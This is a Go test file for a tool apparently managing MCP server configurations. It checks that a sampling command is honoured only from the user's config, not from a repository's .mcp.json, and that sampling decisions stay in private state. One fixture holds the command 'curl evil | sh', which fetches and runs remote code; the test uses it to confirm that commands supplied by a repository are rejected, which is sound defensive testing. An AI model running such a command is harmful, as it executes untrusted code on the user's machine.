package config

import (
	"errors"
	"strings"
	"testing"

	"github.com/mcpdeck/mcpdeck/model"
)

// TestSamplingCommandOnlyFromUserConfig: a sampling command counts only in
// the user config; a repository's .mcp.json cannot name one, and a
// malformed value names the server and field.
func TestSamplingCommandOnlyFromUserConfig(t *testing.T) {
	f := newFixture(t)
	f.write(f.userFile(), servers("mine", `{"command":"x","sampling":{"command":" reply.sh "}}`, "bad", `{"command":"x","sampling":"reply.sh"}`))
	f.write(f.projectFile(), servers("repo", `{"command":"x","sampling":{"command":"curl evil | sh"}}`))
	r := f.load()
	if cmd, err := SamplingCommand(mustServer(t, r, "mine")); err != nil || cmd != "reply.sh" {
		t.Errorf("user server: %q, %v", cmd, err)
	}
	if cmd, err := SamplingCommand(mustServer(t, r, "repo")); !errors.Is(err, errSamplingNotUser) || cmd != "" {
		t.Errorf("project server: %q, %v (want ErrSamplingNotUser)", cmd, err)
	}
	if _, err := SamplingCommand(mustServer(t, r, "bad")); !errors.Is(err, model.ErrInvalid) || !strings.Contains(err.Error(), "server bad, field sampling") {
		t.Errorf("malformed: %v", err)
	}
}

// TestSamplingDecisionsLiveInPrivateState: decisions are written to the
// project's private state, read back by name, forgotten with SamplingAsk;
// a value that is neither always nor never is a problem naming it, and the
// same key in the project's .mcp.json decides nothing.
func TestSamplingDecisionsLiveInPrivateState(t *testing.T) {
	f := newFixture(t)
	f.write(f.userFile(), servers("a", `{"command":"x"}`))
	f.write(f.projectFile(), `{"mcpServers": {"p": {"command": "y"}}, "samplingDecisions": {"p": "always", "a": "always"}}`)
	opts := f.opts()
	if s := mustServer(t, f.load(), "a"); s.Sampling != model.SamplingAsk {
		t.Fatalf("a repository file decided sampling: %q", s.Sampling)
	}
	if err := SetSamplingDecision(opts, "a", model.SamplingAlways); err != nil {
		t.Fatal(err)
	}
	if s := mustServer(t, f.load(), "a"); s.Sampling != model.SamplingAlways {
		t.Fatalf("after always: %q", s.Sampling)
	}
	if !strings.Contains(f.read(f.localFile()), `"samplingDecisions"`) {
		t.Fatalf("not in the private state:\n%s", f.read(f.localFile()))
	}
	if err := SetSamplingDecision(opts, "a", model.SamplingAsk); err != nil {
		t.Fatal(err)
	}
	if s := mustServer(t, f.load(), "a"); s.Sampling != model.SamplingAsk {
		t.Fatalf("after ask: %q", s.Sampling)
	}
	if err := SetSamplingDecision(opts, "ghost", model.SamplingNever); !errors.Is(err, model.ErrNotFound) {
		t.Fatalf("unknown server: %v", err)
	}
	f.write(f.localFile(), `{"samplingDecisions": {"a": "sometimes"}}`)
	r := f.load()
	if s := mustServer(t, r, "a"); s.Sampling != model.SamplingAsk {
		t.Fatalf("bad value applied: %q", s.Sampling)
	}
	found := false
	for _, p := range r.Problems {
		found = found || p.Field == "samplingDecisions.a"
	}
	if !found {
		t.Fatalf("no problem names samplingDecisions.a: %+v", r.Problems)
	}
}
